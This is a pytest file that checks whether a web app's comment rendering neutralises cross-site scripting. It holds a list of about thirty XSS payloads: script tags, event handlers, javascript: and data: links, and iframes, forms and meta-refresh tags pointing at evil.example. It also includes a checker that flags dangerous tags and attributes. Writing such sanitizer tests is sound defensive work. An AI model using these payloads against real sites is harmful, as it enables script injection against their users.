"""Comments against a list of XSS payloads: whatever people type, the API's ``html`` and the project
page carry no script, no event handler, no dangerous link or embedded document."""
from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from app.core.markdown import ALLOWED_TAGS
from tests.conftest import login
from tests.portfolio.citizen_support import comment, headers_for, person, project

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<svg onload=alert(1)><circle r=1></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<div style="width: expression(alert(1))">styled</div>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript&colon;alert(1))",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=alert(1)>",
    '<form action="https://evil.example/"><button>Send</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "[click](JaVaScRiPt:alert(1))",
    "![image](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](<javascript:alert(1)>)",
    '<details open ontoggle="alert(1)">x</details>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '![x](/local.png "t\\" onerror=\\"alert(1))',
    "<style>body { display: none }</style>",
    '[a](https://example.org/" onmouseover="alert(1))',
    "<a href='https://ok.example' onclick='alert(1)'>ok</a>",
    "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
    "[click](  javascript:alert(1))",
]
SAFE_SCHEMES = {"http", "https", "mailto"}
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base",
                  "meta", "style", "link", "details", "frame", "frameset", "textarea", "select"}


class Checker(HTMLParser):
    """Collects everything in a fragment of HTML that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action", "autofocus"):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in ("href", "src", "xlink:href", "data"):
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = urlsplit(compact).scheme
                if scheme and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
                if tag == "img" and not value.startswith("/"):
                    self.problems.append(f"outside image {value!r}")


def problems_in(fragment: str, *, allowed_tags: set[str] = ALLOWED_TAGS) -> list[str]:
    checker = Checker()
    checker.feed(fragment)
    checker.close()
    return checker.problems + [f"unexpected tag <{t}>" for t in checker.tags - allowed_tags]


def comment_blocks(html: str) -> dict[int, str]:
    return {int(m.group(1)): m.group(2) for m in re.finditer(
        r'<li class="comment[^"]*" id="comment-(\d+)">(.*?)</li>\s*(?=<li class="comment|</ol>)', html, re.S)}


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 15


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_api_html_of_each_payload_is_harmless(client, db, payload):
    row = project()
    response = client.post(f"/api/v1/portfolio/{row.id}/comments", json={"body": payload},
                           headers=headers_for(client, person("Eve Tester")))
    assert response.status_code == 201
    data = response.get_json()
    assert data["body"] == payload  # kept as written
    assert problems_in(data["html"]) == [], data["html"]
    listed = client.get(f"/api/v1/portfolio/{row.id}/comments").get_json()["items"][0]
    assert listed["html"] == data["html"]


def test_the_project_page_shows_every_payload_harmlessly(client, db):
    row = project()
    eve = person("Eve Tester")
    ids = [comment(row, eve, payload).id for payload in PAYLOADS]
    for signed_in in (False, True):
        if signed_in:
            login(client, eve.email)
        html = client.get(f"/portfolio/{row.id}").get_data(as_text=True)
        blocks = comment_blocks(html)
        assert sorted(blocks) == sorted(ids)
        # The comment's frame adds only its own markup (meta line, time, report link) around the body.
        frame = ALLOWED_TAGS | {"div", "span", "time", "li"}
        for comment_id, block in blocks.items():
            assert problems_in(block, allowed_tags=frame) == [], block
        # Anywhere on the page: no event handler, no inline style, no dangerous link (typed text is escaped).
        page = Checker()
        page.feed(html)
        assert [p for p in page.problems if not p.startswith("tag ") and "autofocus" not in p
                and "action on <form>" not in p] == []
        assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/js/salus.js" defer>']
    comments_page = client.get(f"/portfolio/{row.id}/comments").get_data(as_text=True)
    for block in comment_blocks(comments_page).values():
        assert problems_in(block, allowed_tags=ALLOWED_TAGS | {"div", "span", "time", "li"}) == []
